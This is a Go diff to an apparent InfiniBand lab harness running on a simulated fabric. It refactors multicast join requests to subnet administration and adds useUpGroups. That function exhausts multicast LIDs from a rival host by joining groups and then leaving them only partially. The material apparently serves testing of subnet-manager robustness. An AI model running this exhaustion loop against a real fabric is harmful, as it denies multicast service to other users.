@@ -2,7 +2,6 @@ package iblab
 
 import (
 	"context"
-	"encoding/binary"
 	"fmt"
 	"time"
 
@@ -14,6 +13,11 @@ import (
 // joinGroup asks subnet administration, from a host, to make and join a multicast
 // group of a partition. It returns the status of the answer.
 func (l *Lab) joinGroup(ctx context.Context, host string, portGUID uint64, key mad.PKey, group uint32) (mad.Status, error) {
+	return l.askGroup(ctx, host, mad.Set, mad.MCMember{Group: group, Port: portGUID, PKey: key, Join: mad.JoinFull})
+}
+
+// askGroup asks it to join a group, or to leave it.
+func (l *Lab) askGroup(ctx context.Context, host string, method mad.Method, member mad.MCMember) (mad.Status, error) {
 	at, err := umad.OpenSim(umad.SimOptions{Socket: l.Fabric.Name, Host: host})
 	if err != nil {
 		return 0, err
@@ -30,19 +34,7 @@ func (l *Lab) joinGroup(ctx context.Context, host string, portGUID uint64, key m
 	if err != nil {
 		return 0, err
 	}
-	ask := mad.SA{Method: mad.Set, TID: uint64(group), Attribute: mad.AttrMCMemberRecord}
-	for _, field := range []int{0, 1, 2, 6, 7, 12, 13, 16} { // MGID, port, Q_Key, class, P_Key, SL, flow, join state
-		ask.Components |= 1 << field
-	}
-	record := ask.Data[:]
-	record[0], record[1] = 0xff, 0x12 // transient, link-local
-	binary.BigEndian.PutUint16(record[4:], uint16(key))
-	binary.BigEndian.PutUint32(record[12:], group)
-	binary.BigEndian.PutUint64(record[16:], 0xfe80<<48)
-	binary.BigEndian.PutUint64(record[24:], portGUID)
-	binary.BigEndian.PutUint32(record[32:], 0xb1b)
-	binary.BigEndian.PutUint16(record[40:], uint16(key))
-	record[48] = 2<<4 | 1 // full member
+	ask := member.Ask(method, uint64(member.Group))
 	packet := ask.Encode()
 	if err := at.Send(manager.MasterSMLID, &packet); err != nil {
 		return 0, err
@@ -56,8 +48,33 @@ func (l *Lab) joinGroup(ctx context.Context, host string, portGUID uint64, key m
 		if lost {
 			return 0, fmt.Errorf("subnet administration can't be reached from %s", host)
 		}
-		if answer, err := mad.ParseSA(&p); err == nil && answer.Attribute == mad.AttrMCMemberRecord && uint32(answer.TID) == group {
+		if answer, err := mad.ParseSA(&p); err == nil && answer.Attribute == mad.AttrMCMemberRecord && uint32(answer.TID) == member.Group {
 			return answer.Status, nil
 		}
 	}
+}
+
+// useUpGroups joins one multicast group after the other from the first rival's host, and
+// leaves each as a member that receives, but not as one that sends: each keeps its
+// multicast LID. It ends when subnet administration has no more.
+func (l *Lab) useUpGroups(ctx context.Context) error {
+	v := l.victims()
+	guid := l.Site.PortID[v.port[0]]
+	for group := range uint32(1 << 15) {
+		m := mad.MCMember{Group: 0xa000 + group, Port: guid, PKey: v.key[0], Join: mad.JoinFull | mad.JoinSendFull}
+		status, err := l.askGroup(ctx, v.hca[0], mad.Set, m)
+		switch {
+		case err != nil:
+			return err
+		case status == mad.StatusNoResources:
+			return nil
+		case status != mad.StatusOK:
+			return fmt.Errorf("group %d: %s", group, status)
+		}
+		m.Join = mad.JoinFull
+		if status, err := l.askGroup(ctx, v.hca[0], mad.Delete, m); err != nil || status != mad.StatusOK {
+			return fmt.Errorf("leaving group %d: %s, %v", group, status, err)
+		}
+	}
+	return fmt.Errorf("%d groups, and there is still room", 1<<15)
 }
